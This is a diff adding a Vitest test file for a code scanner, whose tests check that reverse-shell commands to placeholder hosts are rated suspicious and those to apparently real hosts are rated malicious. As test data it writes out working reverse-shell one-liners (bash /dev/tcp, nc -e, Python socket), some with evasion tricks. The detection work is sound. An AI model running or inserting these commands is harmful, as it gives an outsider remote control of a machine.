@@ -1,0 +1,24 @@
+import { expect, test } from "vitest";
+import { toFiles } from "../../test/scanner/corpus.ts";
+import { code, type Sample } from "../../test/scanner/corpus-case.ts";
+import { scanFiles } from "./scan-files.ts";
+
+const verdict = (sample: Sample): string => scanFiles(toFiles(sample)).verdict;
+
+test.for([
+  "bash -i >& /dev/tcp/ATTACKER_IP/4444 0>&1",
+  "nc -e /bin/sh 10.10.14.3 4444",
+  "nc -e /bin/bash <your-ip> 4444",
+  `python3 -c 'import socket,os;s=socket.socket();s.connect(("YOUR_IP",4444));os.dup2(s.fileno(),0)'`,
+])("a remote shell to an address that isn't real is an example: %s", (command) => {
+  expect(verdict(code(command))).toBe("suspicious");
+});
+
+test.for([
+  "bash -i >& /dev/tcp/45.61.136.7/4444 0>&1",
+  "bash -i >& /dev/tcp/45.61.136.7/4444 0>&1 # ATTACKER_IP 10.0.0.1",
+  "ATTACKER_IP=45.61.136.7\nbash -i >& /dev/tcp/$ATTACKER_IP/4444 0>&1",
+  "nc -e /bin/sh updates.note-tools.dev 4444",
+])("a remote shell to a real address is malicious: %s", (command) => {
+  expect(verdict(code(command))).toBe("malicious");
+});
